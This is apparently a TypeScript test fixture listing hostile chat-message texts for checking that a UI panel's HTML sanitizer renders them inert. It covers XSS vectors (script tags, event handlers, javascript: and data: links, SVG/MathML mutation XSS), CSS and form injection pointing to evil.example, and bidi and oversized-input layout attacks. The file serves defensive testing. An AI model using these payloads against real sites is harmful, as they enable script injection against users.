/**
 * Hostile message texts shared by the unit tests (DOMPurify on jsdom) and the
 * UI tests (the real panel in Chromium). Each must render inert: nothing runs,
 * no element or attribute outside the allow-list survives, and the layout holds.
 */

/** One hostile message text and what must be true after rendering it. */
export interface HostilePayload {
  /** Short unique name, usable as a test title and a message id suffix. */
  name: string;
  text: string;
  /** Plain text that must still be visible after rendering (the payload shown, not eaten). */
  visible?: string;
  /** Marks payloads that target layout rather than script execution. */
  layout?: true;
}

const COMBINING = 'Z' + '\u0301\u0316\u0344'.repeat(3334).slice(0, 10_000);

/** At least 30 payloads covering script, handlers, URL schemes, SVG/MathML, CSS, bidi, zero-width and size. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // Script tags and event handlers
  { name: 'script-tag', text: '<script>window.__pwned=1</script>hello', visible: 'hello' },
  { name: 'img-onerror', text: '<img src=x onerror="window.__pwned=1">' },
  { name: 'svg-onload', text: '<svg onload="window.__pwned=1"></svg>' },
  { name: 'body-onload', text: '<body onload="window.__pwned=1">' },
  { name: 'details-ontoggle', text: '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>' },
  { name: 'a-onclick', text: '<a href="https://example.com" onclick="window.__pwned=1">click</a>' },
  { name: 'custom-element-handler', text: '<x-y onpointerenter="window.__pwned=1">hover me</x-y>' },
  { name: 'split-script', text: '<scr<script>ipt>window.__pwned=1</scr</script>ipt>' },
  { name: 'nested-script', text: '<<script>script>window.__pwned=1<</script>/script>' },
  { name: 'iframe-srcdoc', text: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>' },
  { name: 'template-script', text: '<template><script>window.__pwned=1</script></template>' },
  { name: 'noscript-mxss', text: '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">' },
  { name: 'markdown-html-inline', text: 'before <b onmouseover="window.__pwned=1">bold</b> after', visible: 'before' },
  { name: 'link-title-breakout', text: '[x](https://example.com "a\\" onmouseover=\\"window.__pwned=1")', visible: 'x' },
  { name: 'template-injection', text: "{{constructor.constructor('window.__pwned=1')()}}", visible: 'constructor' },
  { name: 'code-fence-script', text: '```html\n<script>window.__pwned=1</script>\n```', visible: '<script>window.__pwned=1</script>' },
  { name: 'inline-code-img', text: '`<img src=x onerror=window.__pwned=1>`', visible: '<img src=x onerror=window.__pwned=1>' },
  // javascript: and data: links
  { name: 'md-javascript-link', text: '[click](javascript:window.__pwned=1)' },
  { name: 'md-javascript-mixed-case', text: '[click](JaVaScRiPt:window.__pwned=1)' },
  { name: 'md-javascript-entity', text: '[click](javascript&colon;window.__pwned=1)' },
  { name: 'md-javascript-tab', text: '[click](java\tscript:window.__pwned=1)' },
  { name: 'md-javascript-percent', text: '[click](%6Aavascript:window.__pwned=1)' },
  { name: 'md-data-link', text: '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)' },
  { name: 'md-vbscript-link', text: '[click](vbscript:msgbox(1))' },
  { name: 'md-file-link', text: '[click](file:///etc/passwd)' },
  { name: 'autolink-javascript', text: '<javascript:window.__pwned=1>' },
  { name: 'html-javascript-href', text: '<a href="javascript:window.__pwned=1">click</a>' },
  { name: 'md-image', text: '![x](https://example.com/x.png)' },
  // SVG and MathML tricks
  { name: 'svg-script', text: '<svg><script>window.__pwned=1</script></svg>' },
  { name: 'svg-xlink', text: '<svg><a xlink:href="javascript:window.__pwned=1"><text x="0" y="20">x</text></a></svg>' },
  { name: 'svg-animate', text: '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>' },
  { name: 'math-href', text: '<math href="javascript:window.__pwned=1"><mi>x</mi></math>' },
  { name: 'math-mglyph-mxss', text: '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>' },
  { name: 'math-style-mxss', text: '<math><mi><svg><style><img src=x onerror=window.__pwned=1></style></svg></mi></math>' },
  // CSS injection
  { name: 'style-tag', text: '<style>body{display:none!important}</style>still here', visible: 'still here' },
  { name: 'style-attr-overlay', text: '<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>' },
  { name: 'link-stylesheet', text: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'css-expression', text: '<p style="width:expression(window.__pwned=1)">x</p>' },
  { name: 'markdown-class-abuse', text: '<span class="hljs msg own sys">fake system line</span>' },
  // Other elements that load or navigate
  { name: 'meta-refresh', text: '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">' },
  { name: 'base-href', text: '<base href="javascript:window.__pwned=1//">' },
  { name: 'object-data', text: '<object data="javascript:window.__pwned=1"></object>' },
  { name: 'embed-src', text: '<embed src="javascript:window.__pwned=1">' },
  { name: 'form-input', text: '<form action="https://evil.example"><input name="p"><button>go</button></form>' },
  // Bidi, zero-width, size
  { name: 'rtl-override', text: 'file\u202Etxt.exe\u202C and more', visible: 'and more', layout: true },
  { name: 'rtl-isolate-unclosed', text: '\u2067\u202Eunclosed isolate and override', layout: true },
  { name: 'zero-width', text: 'ze\u200Bro\u200Cwi\u200Ddth\uFEFF\u2060text', layout: true },
  { name: 'combining-10k', text: COMBINING, layout: true },
  { name: 'long-line-64k', text: 'A'.repeat(65_536), layout: true },
  { name: 'long-word-64k-url', text: 'https://example.com/' + 'a'.repeat(65_000), layout: true },
  { name: 'nested-emphasis-64k', text: '*_'.repeat(16_384), layout: true },
  { name: 'nested-brackets-64k', text: '['.repeat(32_768) + ']('.repeat(8_000), layout: true },
  { name: 'many-newlines', text: 'x\n'.repeat(5_000), layout: true },
  { name: 'null-and-controls', text: 'a\u0000b\u0007c\u001bd', layout: true },
];
